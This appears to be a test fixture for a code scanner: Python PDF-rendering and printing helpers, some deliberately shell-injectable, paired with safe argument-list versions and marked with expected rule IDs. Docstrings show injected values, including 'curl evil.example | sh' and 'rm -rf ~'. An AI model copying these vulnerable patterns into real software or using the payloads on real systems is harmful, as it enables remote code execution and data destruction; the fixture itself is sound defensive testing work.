"""PDF tooling: rendering with wkhtmltopdf, page counts with pdfinfo, printing with CUPS."""
import os
import subprocess

WKHTMLTOPDF = "wkhtmltopdf"


def render_pdf(html_path: str, pdf_path: str, page_size: str = "A4") -> None:
    """Vulnerable: ``page_size`` comes from the query string and is pasted into a shell command line;
    ``A4; curl evil.example | sh`` is a valid value to the shell."""
    command = f"{WKHTMLTOPDF} --page-size {page_size} {html_path} {pdf_path}"
    subprocess.run(command, shell=True, check=True)  # expect: K702


def render_pdf_safe(html_path: str, pdf_path: str, page_size: str = "A4") -> None:
    """Safe: an argument list and no shell; each value stays one argument whatever it contains."""
    subprocess.run([WKHTMLTOPDF, "--page-size", page_size, html_path, pdf_path], check=True)  # ok: K110, K702


def renderer_version() -> str:
    """A constant command line is not an injection, even through the shell."""
    result = subprocess.run(  # ok: K110
        "wkhtmltopdf --version | head -n 1", shell=True, capture_output=True, text=True
    )
    return result.stdout.strip()


def page_count(pdf_path: str) -> int:
    """Vulnerable: ``getoutput`` always goes through the shell."""
    info = subprocess.getoutput(f"pdfinfo {pdf_path}")  # expect: K110
    return _pages(info)


def page_count_safe(pdf_path: str) -> int:
    info = subprocess.run(["pdfinfo", pdf_path], capture_output=True, text=True, check=True).stdout  # ok: K110
    return _pages(info)


def _pages(pdfinfo_output: str) -> int:
    for line in pdfinfo_output.splitlines():
        key, _, value = line.partition(":")
        if key == "Pages":
            return int(value)
    raise ValueError("pdfinfo did not report a page count")


def print_invoice(pdf_path: str, printer: str) -> None:
    """Vulnerable: ``printer`` comes from the form; ``office; rm -rf ~`` is a printer name to a shell."""
    os.system("lp -d " + printer + " " + pdf_path)  # expect: K702


def print_invoice_safe(pdf_path: str, printer: str) -> None:
    subprocess.run(["lp", "-d", printer, "--", pdf_path], check=True)  # ok: K111, K702


def printer_status(printer: str) -> str:
    """Vulnerable: same problem through ``os.popen``."""
    with os.popen(f"lpstat -p {printer}") as pipe:  # expect: K702
        return pipe.read()


def printer_status_safe(printer: str) -> str:
    return subprocess.run(["lpstat", "-p", printer], capture_output=True, text=True).stdout  # ok: K111, K702
